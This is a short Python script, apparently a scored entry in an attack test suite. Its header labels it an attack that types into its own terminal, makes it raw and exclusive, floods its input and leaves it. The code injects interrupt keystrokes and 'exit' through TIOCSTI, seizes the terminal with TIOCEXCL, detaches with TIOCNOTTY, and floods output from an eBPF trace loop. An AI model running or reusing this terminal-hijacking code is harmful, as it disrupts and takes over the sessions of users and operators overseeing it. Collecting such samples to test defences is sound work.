# attack: Types into its terminal, makes it raw and exclusive, floods its input and leaves it.
# earns: 1.1 1.2 1.3 1.4 1.6 1.7 1.8
# scale: 0.2

from pathlib import Path

from bcc import BPF

b = BPF(src_file=str(Path(__file__).with_name("directory_create.c")))

import fcntl
import os
import termios
import tty

for byte in b"\x03\x1c\x1a exit\n" * 20:
    try:
        fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))
    except (OSError, KeyboardInterrupt):
        pass
tty.setraw(0)
for request in (termios.TIOCEXCL, termios.TIOCNOTTY):
    try:
        fcntl.ioctl(0, request)
    except OSError:
        pass
while True:
    message = b.trace_fields()[5]
    if message:
        os.write(1, message + b"\r\n")
